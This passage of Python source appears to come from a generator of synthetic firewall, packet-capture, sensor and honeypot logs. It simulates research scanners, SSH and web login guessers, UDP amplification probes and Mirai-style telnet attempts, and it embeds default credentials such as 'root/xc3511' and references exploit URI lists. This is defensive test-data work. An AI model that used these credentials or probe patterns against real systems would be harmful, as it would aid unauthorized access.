    """Every organization's hosts probe our addresses in sweeps at its own hours, pace and ports, with its fingerprints."""
    home_hosts = _obj(sc.HOME_SERVERS + sc.HOME_CLIENTS)
    for org in sc.ORGS:
        hosts = sc.org_hosts(org)
        for src in hosts:
            n = max(4, int(org.probes * scale * rng.uniform(0.7, 1.3)))
            sweeps = -(-n // org.burst)
            starts = np.sort(d.at_local(_hours(rng, sweeps, org.peak_hours, 0.8)))
            ts = (
                starts[:, None] + np.arange(org.burst)[None, :] * org.gap_s * rng.uniform(0.8, 1.2, (sweeps, org.burst))
            ).ravel()[:n]
            ts = np.sort(np.minimum(ts, d.t0 + 86_399.5))
            proto = np.where(
                (rng.random(n) < 0.2) & bool(org.udp_ports),
                "udp",
                np.where(org.icmp & (rng.random(n) < 0.05), "icmp", "tcp"),
            )
            port = np.where(
                proto == "udp", rng.choice(org.udp_ports or (0,), size=n), rng.choice(org.tcp_ports, size=n)
            )
            port = np.where(proto == "icmp", 8, port)
            # Our listener and honeypot only see the ports an organization scans anyway.
            sensor_ports = [p for p in sc.SENSOR_TCP if p in org.tcp_ports]
            hp_ssh = 22 in org.tcp_ports and bool(org.ssh_banner)
            shares = np.array(
                [0.55, 0.2, 0.12 if sensor_ports else 0.0, 0.13 if 80 in org.tcp_ports or hp_ssh else 0.0]
            )
            where = rng.choice(4, size=n, p=shares / shares.sum())
            where = np.where((proto != "tcp") & (where >= 2), 0, where)  # datagrams and pings: firewall or tap
            ip_id = rng.integers(1, 65535, size=n) if org.ip_id is None else np.full(n, org.ip_id)
            sport = rng.integers(32768, 61000, size=n)
            truth = _truth(src, "scan", "research", org.name)
            fw = where == 0
            if fw.any():
                k = int(fw.sum())
                d.fw.append(
                    frame(
                        k,
                        ts=ts[fw],
                        src=src,
                        dst=sc.VPS,
                        proto=proto[fw],
                        sport=sport[fw],
                        dport=port[fw],
                        code=0,
                        ttl=org.ttl,
                        ip_id=ip_id[fw],
                        df=org.tcp_options == 2,
                        window=org.window,
                        opts=org.tcp_options,
                        plen=np.where(proto[fw] == "udp", 24, np.where(proto[fw] == "icmp", 8, 0)),
                        **truth,
                    )
                )
            tap = (where == 1) & (proto == "tcp")
            if tap.any():
                k = int(tap.sum())
                d.pcap.append(
                    syn_probes(
                        rng,
                        ts[tap],
                        src,
                        home_hosts[rng.integers(len(home_hosts), size=k)],
                        port[tap],
                        sport[tap],
                        org.ttl,
                        ip_id[tap],
                        org.window,
                        org.tcp_options,
                        truth,
                    )
                )
            tap_udp = (where == 1) & (proto == "udp")
            if tap_udp.any():
                k = int(tap_udp.sum())
                d.pcap.append(
                    frame(
                        k,
                        ts=ts[tap_udp],
                        src=src,
                        dst=home_hosts[rng.integers(len(home_hosts), size=k)],
                        proto="udp",
                        sport=sport[tap_udp],
                        dport=port[tap_udp],
                        ttl=org.ttl,
                        ip_id=ip_id[tap_udp],
                        df=False,
                        plen=24,
                        **truth,
                    )
                )
            tap_icmp = (where == 1) & (proto == "icmp")
            if tap_icmp.any():
                k = int(tap_icmp.sum())
                d.pcap.append(
                    frame(
                        k,
                        ts=ts[tap_icmp],
                        src=src,
                        dst=home_hosts[rng.integers(len(home_hosts), size=k)],
                        proto="icmp",
                        sport=int(rng.integers(1, 65535)),
                        dport=8,
                        code=0,
                        ttl=org.ttl,
                        ip_id=ip_id[tap_icmp],
                        df=False,
                        plen=8,
                        **truth,
                    )
                )
            sen = where == 2
            if sen.any():
                k = int(sen.sum())
                sports = rng.choice(sensor_ports, size=k)
                d.sensor.append(
                    frame(
                        k,
                        ts=ts[sen],
                        src=src,
                        dst=sc.SENSOR_IP,
                        proto="tcp",
                        sport=sport[sen],
                        dport=sports,
                        payload=[_sensor_payload(int(p), org) for p in sports],
                        duration=rng.gamma(2, 0.2, k),
                        **truth,
                    )
                )
            hp = where == 3
            if hp.any():
                k = int(hp.sum())
                ssh = (rng.random(k) < (0.2 if 80 in org.tcp_ports else 1.0)) & hp_ssh
                uris = _obj(org.uris)[rng.integers(len(org.uris), size=k)]
                d.honeypot.append(
                    frame(
                        k,
                        ts=ts[hp],
                        src=src,
                        dst=sc.HONEYPOT_IP,
                        proto="tcp",
                        sport=sport[hp],
                        dport=np.where(ssh, 22, 80),
                        app=np.where(ssh, "ssh", "http"),
                        action=np.where(ssh, "banner", "request"),
                        method="GET",
                        uri=uris,
                        ua=org.user_agent,
                        payload=[(org.ssh_banner + "\r\n").encode() if s else None for s in ssh],
                        asn=org.asn,
                        as_org=org.as_org or None,
                        **truth,
                    )
                )
        for src in sc.org_v6_hosts(org):  # a few IPv6 sweeps of the site's v6 web server
            n = max(4, int(org.probes * scale * 0.2))
            ts = np.sort(d.at_local(_hours(rng, n, org.peak_hours, 0.8)))
            ports = rng.choice(org.tcp_ports, size=n)
            d.pcap.append(
                syn_probes(
                    rng,
                    ts,
                    src,
                    _obj([sc.HOME_V6_WEB] * n),
                    ports,
                    rng.integers(32768, 61000, size=n),
                    org.ttl,
                    0,
                    org.window,
                    org.tcp_options,
                    _truth(src, "scan", "research", org.name),
                )
            )


# --- the listener and the honeypot: bots and brute forcers ---------------------------------------


def bots(d: Day, rng: np.random.Generator, scale: float) -> None:
    """Login guessers and exploit senders, each on one port of one host: hostile, but not port scans."""
    n_ssh = int(60 * scale)
    for src in d.pool.anywhere(rng, n_ssh)[0]:
        k = int(rng.integers(5, 60))
        ts = np.minimum(d.t0 + rng.random() * 80_000 + np.cumsum(rng.uniform(2, 20, k)), d.t0 + 86_399.5)
        users = _obj(SSH_USERS)[rng.integers(len(SSH_USERS), size=k)]
        d.honeypot.append(
            frame(
                k,
                ts=ts,
                src=src,
                dst=sc.HONEYPOT_IP,
                proto="tcp",
                sport=rng.integers(32768, 61000, size=k),
                dport=22,
                app="ssh",
                action="login",
                payload=[f"SSH-2.0-libssh_0.9.6\r\nuser={u}".encode() for u in users],
                **_truth(src, "benign", "benign"),
            )
        )
    n_web = int(80 * scale)
    for j, src in enumerate(d.pool.anywhere(rng, n_web)[0]):
        k = int(rng.integers(3, 30))
        ts = np.minimum(d.t0 + rng.random() * 85_000 + np.cumsum(rng.uniform(0.5, 8, k)), d.t0 + 86_399.5)
        uris = [EXPLOIT_URIS[int(i)] for i in rng.integers(len(EXPLOIT_URIS), size=k)]
        if j % 4 == 0:  # attacker-controlled text, stored verbatim and escaped when shown
            uris = [u if i % 2 else "/cgi-bin/" + HOSTILE[(i + j) % len(HOSTILE)] for i, u in enumerate(uris)]
        ua = HOSTILE[j % len(HOSTILE)] if j % 5 == 0 else "Mozilla/5.0 zgrab/0.x" if j % 2 else "python-requests/2.31.0"
        d.honeypot.append(
            frame(
                k,
                ts=ts,
                src=src,
                dst=sc.HONEYPOT_IP,
                proto="tcp",
                sport=rng.integers(32768, 61000, size=k),
                dport=80,
                app="http",
                action="request",
                method=np.where(rng.random(k) < 0.3, "POST", "GET"),
                uri=uris,
                ua=ua,
                payload=[b"user=admin&pass=admin" if i % 3 == 0 else None for i in range(k)],
                **_truth(src, "benign", "benign"),
            )
        )
    n_sensor = int(90 * scale)
    for j, src in enumerate(d.pool.anywhere(rng, n_sensor)[0]):
        k = int(rng.integers(3, 40))
        ts = np.minimum(d.t0 + rng.random() * 85_000 + np.cumsum(rng.uniform(1, 30, k)), d.t0 + 86_399.5)
        if j % 3 == 2:  # UDP: amplification probes to one service
            port = int(rng.choice(sc.SENSOR_UDP))
            d.sensor.append(
                frame(
                    k,
                    ts=ts,
                    src=src,
                    dst=sc.SENSOR_IP,
                    proto="udp",
                    sport=rng.integers(1024, 65535, size=k),
                    dport=port,
                    payload=bytes.fromhex("0001000000000000"),
                    duration=0.0,
                    **_truth(src, "benign", "benign"),
                )
            )
        else:  # Mirai-style telnet logins or RDP cookies, on one port
            port = 2323 if j % 3 == 0 else 3389
            payload = b"root\r\nxc3511\r\n" if port == 2323 else _sensor_payload(3389, sc.ORGS[0])
            if j % 7 == 0:
                payload = HOSTILE[j % len(HOSTILE)].encode()
            d.sensor.append(
                frame(
                    k,
                    ts=ts,
                    src=src,
                    dst=sc.SENSOR_IP,
                    proto="tcp",
                    sport=rng.integers(32768, 61000, size=k),
                    dport=port,
                    payload=payload,
                    duration=rng.gamma(2, 0.5, k),
                    **_truth(src, "benign", "benign"),
                )
            )
